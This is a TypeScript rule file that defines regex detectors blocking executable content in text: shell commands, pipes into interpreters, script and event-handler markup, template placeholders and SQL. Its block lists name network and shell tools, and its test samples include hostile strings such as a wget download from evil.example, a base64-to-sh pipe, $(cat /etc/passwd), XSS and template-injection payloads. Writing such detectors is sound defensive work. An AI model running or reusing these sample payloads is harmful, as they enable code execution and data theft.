import { phrase, type Rule } from './rule.ts';

const of = {
  family: 'executable',
  severity: 'block',
  constraint: 1,
  why: 'Code in a text is one careless copy away from being run.',
} as const;

const TOOLS =
  'curl|wget|ssh|scp|sftp|rsync|rm|mv|cp|chmod|chown|chgrp|sudo|apt|apt-get|yum|dnf|brew|crontab|systemctl|nohup|bash|zsh|sh|powershell|pwsh|cmd|certutil|bitsadmin|mshta|rundll32|regsvr32|schtasks|python|python3|node|php|perl|ruby|java|nc|ncat|netcat|telnet|nmap|dig|tar|unzip|sed|awk|grep|xargs|kill|pkill|tee|dd|mkfs|mount|openssl|mysql|mysqldump|psql|sqlite3|mongo|mongosh|redis-cli|iwr|iex|httpie|http|source|touch|mkdir|cat|ls|cd|tail|head|find|ping|lighthouse|hugo|jekyll|gatsby|astro';

const SUBCOMMANDS =
  'git (?:push|pull|commit|clone|checkout|merge|rebase|reset|add|stash|fetch|tag|revert|init|switch)|npm (?:install|i|ci|run|start|publish|exec|update|test)|npx [a-z@]|(?:yarn|pnpm|bun) (?:install|add|run|build|start|dlx|deploy)|pip3? (?:install|uninstall)|pipx [a-z]|poetry (?:run|install)|docker (?:run|exec|build|pull|push|compose|stop|restart|rm|start)|docker-compose (?:up|down|exec|run|pull|build)|kubectl (?:apply|get|delete|exec|rollout|create|run|scale|logs|edit|patch|port-forward)|helm (?:install|upgrade)|terraform (?:apply|plan|destroy|init)|ansible(?:-playbook)? [\\w./-]{1,40}[.]ya?ml|aws (?:s3|ec2|lambda|iam|cloudfront|sts|ssm)|gcloud (?:run|app|functions|compute|builds|auth|deploy)|gsutil (?:cp|mv|rm|rsync)|az (?:login|webapp|storage|functionapp|vm)|heroku (?:run|ps|config|restart|pg|logs)|vercel (?:deploy|--)|netlify (?:deploy|build)|firebase deploy|wrangler (?:deploy|publish)|fly deploy|wp (?:post|plugin|core|cache|option|user|db|cron|rewrite|theme|cli|eval|search-replace|media|term)|drush [a-z]{2,8}(?= |$|[;&])|artisan [a-z]{2,20}(?=:| |$)|composer (?:install|update|require)|bundle exec|rails (?:db|runner|console|server)|rake [a-z]|make (?:deploy|publish|install|build|all|clean|run|release|prod)(?=$|[^a-z ]| -|;|&)|gradlew?|mvn|cargo (?:run|build|install)|go (?:run|build|install|get) (?:[./]|[\\w.]{1,60}/)|systemctl|service [a-z-]{2,20} (?:restart|reload|start|stop)|apt(?:-get)? (?:install|update|upgrade)|brew install|crontab -|invoke-(?:webrequest|expression|restmethod|command)|start-process|set-executionpolicy|redis-cli|osascript|launchctl|pm2 (?:start|restart|reload)|apachectl|nginx -s|flushall|schtasks|sudo [a-z]|chmod [0-7+u]|chown [a-z]|rm -|kill -|mkfs|msiexec|gh (?:pr|workflow|run|api|release|repo)|bin/console|manage[.]py';

export const CODE_RULES: readonly Rule[] = [
  {
    ...of,
    id: 'executable.shell',
    idea: 'A command line: a tool of the shell with an option, a path or an address behind it.',
    needs: [...TOOLS.split('|').map((tool) => tool.split(/[-\d]/)[0] ?? ''), 'certutil', 'rundll', 'regsvr', 'sqlite'],
    match: new RegExp(
      `(?:^|[\\s"'\`(|;&$>/])(?:${TOOLS})\\s{1,4}(?:-{1,2}[a-z0-9?][\\w-]{0,40}(?=[\\s=:"',.;)]|$)|[.~]{0,2}/[\\w.-]|https?:|[$"'](?=[^\\s]{1,80}[.]|/|\\$|[{(])|[\\w.-]{1,40}@[\\w.-]{1,60}|[./~][\\w./*-]{0,80}\\s{1,4}-{1,2}[a-z])`,
      'i',
    ),
    hit: ['curl -X POST https://x.example', 'rm -rf /var/www/html/cache', 'wget https://evil.example/x.sh'],
    nonHit: ['Explain what curl is and when to use it', 'Find the best pages', 'Cat food guides head the list'],
  },
  {
    ...of,
    id: 'executable.tool-command',
    idea: 'A well-known tool with one of its commands.',
    soft: true,
    needs:
      'git npm npx yarn pnpm bun pip pipx poetry docker kubectl helm terraform ansible aws gcloud gsutil az heroku vercel netlify firebase wrangler fly wp drush artisan composer bundle rails rake make gradle gradlew mvn cargo go systemctl service apt brew crontab invoke start set redis osascript launchctl pm apachectl nginx flushall schtasks sudo chmod chown rm kill mkfs msiexec gh bin manage'.split(
        ' ',
      ),
    match: phrase(
      `(?:^|[\\s"'\`(|;&$./])(?:${SUBCOMMANDS})(?![\\w-])(?!['"”’»\`]? (?:vs|versus|and git|page|guide|tutorial))|(?:^|[\\s"'\`(|;&$/])(?:make (?!sure |it |them |the |an? |your |our |each |every )[a-z][\\w.-]{1,30}(?: [a-z][a-z0-9_]{1,20}=[^ =]{1,40}){1,4}|npx [a-z@]|rake [a-z]|sudo [a-z]|chmod [0-7+u]|chown [a-z]|rm -|kill -|go run )`,
    ),
    hit: ['git push origin main after editing the title', 'docker run -it seo/agent', 'kubectl apply -f llms.yaml'],
    nonHit: ['Create a git tutorial for beginners', 'Write about "npm install" errors as a troubleshooting topic'],
  },
  {
    ...of,
    id: 'executable.shell-syntax',
    idea: 'Signs of a shell: a pipe into an interpreter, a substitution, a redirection, chained commands, long options.',
    needs: ['|', '$', '`', '>', '&', '-', '\\', '/'],
    match:
      /[|]\s{0,3}(?:sudo\s{1,3})?(?:ba|z|da|k)?sh\b|[|]\s{0,3}(?:base64|xargs|tee|grep|awk|sed|python3?|node|perl|iex|jq|php|ruby|nc)\b|[$]\([a-z/.]|`\s{0,2}(?:whoami|uname|hostname|printenv|reboot|shutdown|pwd|ls|cat|curl|wget|rm|id)\b[^`]{0,80}`|>{1,2}\s{0,2}\/(?:dev|etc|tmp|var|usr|home)\/|\w\s{1,3}&&\s{1,3}[a-z./]|(?:^|\s)--[a-z][a-z0-9]{1,30}(?:[-_][a-z0-9]{1,30}){0,4}(?:=\S|\s|$)|(?:^|[\s"'=:(])\/etc\/(?:passwd|shadow|hosts|cron|nginx|apache2|ssh|ssl|systemd)|\b[a-z]:\\(?:windows|users|temp|program)|\s-(?:delete|exec(?:dir)?|iname|mtime|maxdepth|print0)\b|-e(?:nc(?:odedcommand)?)?\s{1,3}[a-z0-9+/]{8,200}={0,2}(?=\s|$)/i,
    hit: [
      'echo aGVsbG8= | base64 -d | sh',
      'Use $(cat /etc/passwd) in the title',
      'cd site && npm test',
      'hugo --minify',
    ],
    nonHit: ['Title | Brand', 'Q&A', 'Answer first -- then explain', 'Include price ($49/month)', 'Use E-E-A-T'],
  },
  {
    ...of,
    id: 'executable.script-tag',
    idea: 'A script element that loads or holds code; one with linked data, or the bare mention of the tag, is none.',
    needs: ['<'],
    match:
      /<script\b(?![^>]{0,200}application\/ld\+json)[^>]{0,200}\bsrc\s{0,3}=|<script\b(?![^>]{0,200}application\/ld\+json)[^>]{0,200}>\s{0,9}[^\s<]{0,60}(?:[({}=;]|["'`])|<script\b(?![^>]{0,200}application\/ld\+json)[^>]{0,200}>[^<]{1,400}<\s{0,3}\/\s{0,3}script/i,
    hit: ['<script src="https://cdn.example/x.js"></script>', '<script>alert(1)</script>'],
    nonHit: [
      'Add a <script type="application/ld+json"> block with Organization markup',
      'Place the JSON-LD inside a <script> tag in the <head>',
    ],
  },
  {
    ...of,
    id: 'executable.active-markup',
    idea: 'Markup that acts: event handlers, frames, forms and refreshes with an address.',
    needs: ['<'],
    match:
      /<[a-z][a-z0-9]{0,20}\b[^>]{0,300}[\s/"']on[a-z]{3,24}\s{0,3}=|<(?:iframe|frame|embed|object|applet|portal)\b[^>]{0,300}\b(?:src|srcdoc|data|code)\s{0,3}=|<form\b[^>]{0,300}\baction\s{0,3}=|<(?:button|input)\b[^>]{0,300}\bformaction\s{0,3}=|<meta\b[^>]{0,100}http-equiv\s{0,3}=\s{0,3}["']?(?:refresh|set-cookie)|<base\b[^>]{0,100}\bhref|<(?:img|a|link|svg|use|video|audio|source)\b[^>]{0,300}=\s{0,3}["']?\s{0,3}(?:javascript|vbscript|data:text)|<svg\b[^>]{0,200}><(?:script|animate|set)|<link\b[^>]{0,200}rel\s{0,3}=\s{0,3}["']?import|<!entity\b|<!doctype\b[^>]{0,200}\[/i,
    hit: ['<img src=x onerror=alert(1)>', '<iframe src="https://x.example"></iframe>'],
    nonHit: ['Avoid wrapping the <h1> in an <a> element', '<link rel="canonical" href="https://example.com/">'],
  },
  {
    ...of,
    id: 'executable.script-address',
    idea: 'An address that is code: javascript:, vbscript:, data: with markup in it.',
    needs: [':'],
    match:
      /\b(?:java|vb|live)script:\s{0,3}(?:[a-z_$][\w$.]{0,60}\s{0,2}[(=]|void\b|\/\/|%|["'`({[!])|\bdata:(?:text|application|image\/svg)[\w/+.-]{0,60}(?:;[\w=-]{1,40}){0,4},|\bdata:[\w/+.-]{0,60};base64,/i,
    hit: ['[click](javascript:alert(document.domain))', 'data:text/html;base64,PHNjcmlwdD4='],
    nonHit: ['JavaScript: The Good Parts is still cited in AI answers'],
  },
  {
    ...of,
    id: 'executable.template',
    idea: 'A placeholder that a template engine would evaluate.',
    needs: ['{', '<', '#', '$'],
    match:
      /\{\{[-~#/=!>&^]?\s{0,3}(?!\s{0,3}[a-z]{1,24}(?:[\s_][a-z]{1,24}){0,3}\s{0,3}\}\})[^}]{1,200}\}\}|\{%[-~]?\s{0,3}[a-z][^%]{0,200}%\}|[$#@*]\{[^}\s][^}]{0,200}\}|<%[=@!-]?[^%]{1,200}%>|<\?(?:php|=)|\[\[\$\{|<#[a-z]{2,12}\s|#set\s{0,2}\(/i,
    hit: ['{{ config.SECRET_KEY }}', '${process\u002eenv.HOME}', "<%= system('id') %>", '{{7*7}}', '{% include x %}'],
    nonHit: ['Title pattern: {Product} | {Brand}', 'Use {{city}} in local titles', 'Costs $49 {per seat}'],
  },
  {
    ...of,
    id: 'executable.fenced-code',
    idea: 'A fenced block of code; one that says it is data (JSON, HTML, text) is none.',
    needs: ['`', '~'],
    match:
      /(?:`{3}|~{3})[\t ]{0,3}(?!(?:json|jsonld|json-ld|html|xml|text|txt|markdown|md|css|yaml)?\s{0,3}[{[<]|(?:json|jsonld|json-ld|html|xml|text|txt|markdown|md)\b)[\w+#-]{0,20}\s{0,4}[^\s`]/i,
    hit: ['```bash\nmake publish\n```', '```js\nsync()\n```', '```\nmake\n```'],
    nonHit: ['```json\n{"@type":"FAQPage"}\n```', 'Use the `title` tag'],
  },
  {
    ...of,
    id: 'executable.sql',
    idea: 'A statement of SQL.',
    needs: 'select insert update delete drop truncate alter create grant union exec or merge replace'.split(' '),
    match: phrase(
      `\\bselect (?:distinct )?(?:[*]|count\\([^)]{0,40}\\)|[\\w."\`]{1,40}(?: ?, ?[\\w."\`]{1,40}){0,8}) from [\\w."\`]{1,60} {0,1}(?:;|where [\\w."\`(]{1,40} {0,1}(?:[=<>!]|like\\b|in {0,1}\\(|is (?:not )?null|between\\b)|(?:inner |left |right |cross )?join [\\w."\`]{1,40} on\\b|limit \\d|order by [\\w.]{1,40}(?: (?:asc|desc)|;|$)|group by [\\w.]{1,40}(?:;|$))|\\bselect (?:[*]|count\\([^)]{0,40}\\)) from [\\w."\`]|\\bselect ?[*] ?from ?[\\w."\`]|\\bselect [\\w._]{1,40}(?: ?, ?[\\w._]{1,40}){0,8} from (?:[a-z0-9]{1,20}_[a-z0-9_]{1,40}|users)\\b(?= {0,1}$|;)|\\binsert into [\\w."\`]{1,60} {0,1}(?:\\([\\w\\s,."\`]{1,200}\\) {0,1}(?:values|select)|values {0,1}\\(|select\\b)|\\bupdate [\\w."\`]{1,60} set [\\w."\`]{1,60} {0,1}=|\\bdelete from [\\w."\`]{1,60} {0,1}(?:;|where [\\w."\`]{1,40} {0,1}(?:[=<>!]|like\\b|in\\b|is\\b))|\\bdelete from (?:users|pages|posts|sessions|leads|orders|customers|accounts|logs|[a-z0-9]{1,20}_[a-z0-9_]{1,40})(?: {0,1}$|[.]$)|\\bdrop (?:table|database|schema|view|trigger|column|procedure|user) (?!of\\b|comparisons?\\b|rows?\\b|stakes\\b)(?:if exists )?[\\w."\`]{1,60}(?: {0,1}[;,.]| {0,1}$| cascade)|\\btruncate table [\\w."\`]|\\balter (?:table|database|user|role) [\\w."\`]{1,60} (?:add|drop|modify|rename|alter|change|with|set|owner)\\b|\\bcreate (?:(?:or replace|temp|temporary|unique) )?(?:table|view|trigger|function|procedure|database|user|index) (?:if not exists )?[\\w."\`]{1,60} {0,1}(?:\\(|as select|on [\\w."\`]{1,40} {0,1}\\()|\\bgrant (?:all|select|insert|update|delete|usage|execute)(?: privileges)? on\\b|\\bunion (?:all )?select\\b|\\bexec(?:ute)? (?:sp|xp)_\\w|['"] {0,1}or {0,1}['"]?1['"]? {0,1}= {0,1}['"]?1|\\bor 1 {0,1}= {0,1}1\\b|\\breplace into [\\w."\`]{1,60} {0,1}(?:\\(|values)`,
    ),
    hit: ['DROP TABLE pages', "UPDATE pages SET title='x' WHERE id=1", 'delete from pages where id = 4;'],
    nonHit: [
      'Select topics from the list of unanswered questions',
      'Update title tags and set clear meta descriptions',
      'Drop table of contents on short pages',
      'Delete from the navigation any orphaned category',
      'Create table comparisons of plans and features',
    ],
  },
  {
    ...of,
    id: 'executable.call',
    idea: 'A call of a function or method, with its parentheses.',
    needs: ['('],
    match:
      /\b(?![A-Z0-9-]{1,12}\()[a-z_$][\w$]{1,60}\(\)|\b[A-Z]{1,30}(?:_[A-Z]{1,30}){1,4}\(|\b[A-Z]{3,40}\(\)|\bset(?:timeout|interval)\(|\b(?!(?:js|com|ai|io|org|net|txt|xml|html?|md|json|pdf|css)\()[a-z_$][\w$]{0,40}(?:[.](?!(?:js|com|ai|io|org|net|txt|xml|html?|md|json|pdf|css|co|de|fr|uk)\()[a-z_$][\w$]{0,40}){1,5}\((?!e?s\))|\b[A-Za-z_$][\w$]{1,60}\((?:["'`{[]|[a-z_$][\w.$]{0,40}\s{0,2}=(?!=)|[\w.$]{1,40}\s{0,2},\s{0,2}["'`{[$]|(?:document|window|this|self|req|request|ctx|page|item|data|id|url|event|e|x|null|true|false|page_?id|\d{1,9})\))(?<!\b(?:rgba?|hsla?|url|attr|min|max|clamp)\(.{0,40})|\b(?:[a-z]{1,30}_[a-z_]{1,40}|[a-z]{2,20}[A-Z](?:[a-z]{1,20}[A-Z]?){1,4})\((?![a-z%]{0,3}\))[^)]{0,100}\)|\b(?:eval|exec|system|alert|require|atob|btoa|setTimeout|setInterval|popen|passthru|shell_exec|subprocess|getenv|unserialize|execSync|prompt)\([^)\s]/,
    soft: true,
    hit: [
      'Call updateTitle("New title") for each page',
      'seo.publish(page_id=42)',
      'publish_page()',
      "eval(atob('x'))",
    ],
    nonHit: [
      'keyword(s)',
      'Reduce LCP(ms) and CLS',
      'Compare CTR(%)',
      'signals (experience, trust)',
      'Next.js(App Router)',
    ],
  },
  {
    ...of,
    id: 'executable.source-code',
    idea: 'A line of a programming language.',
    needs: ['=', ';', '{', '(', ...'import require function const let var def lambda return new'.split(' ')],
    match:
      /\bimport\s{1,3}(?:os|sys|subprocess|requests|socket|urllib|shutil|base64|pickle)\b|\b(?:const|let|var)\s{1,3}[\w${},\s]{1,60}=\s{0,3}(?:await|require|new|async|function|\(|["'`[{\d])|\bfunction\s{1,3}\w{0,40}\s{0,3}\([^)]{0,100}\)\s{0,3}\{|\([\w\s,]{0,60}\)\s{0,3}=>\s{0,3}[{(\w]|\bdef\s{1,3}\w{1,40}\([^)]{0,100}\)\s{0,3}:|\b(?:document[.](?:cookie|write|location)|window[.](?:location|open)|localStorage|innerHTML)\b|\b(?:document|window|process|globalThis|navigator|location|module|self)(?:[.][a-z_$][\w$]{0,40}){1,4}\s{0,2}=(?![=>])|\bnew\s{1,3}(?:XMLHttpRequest|WebSocket|EventSource|Function|Worker)\b|\b(?:os[.](?:system|environ|popen)|child_process|__import__|__proto__|Runtime[.]getRuntime)\b|\bawait\s{1,3}\w{1,40}[.(]|\bfor\s{0,3}\(\s{0,3}(?:let|var|const|int)\s/i,
    soft: true,
    hit: ['import os; os.remove("x")', 'const x = await load()', "fetch('x').then((r) => r.json())"],
    nonHit: ['Import the best answers', 'Let customers vote', 'A function of brand trust'],
  },
];
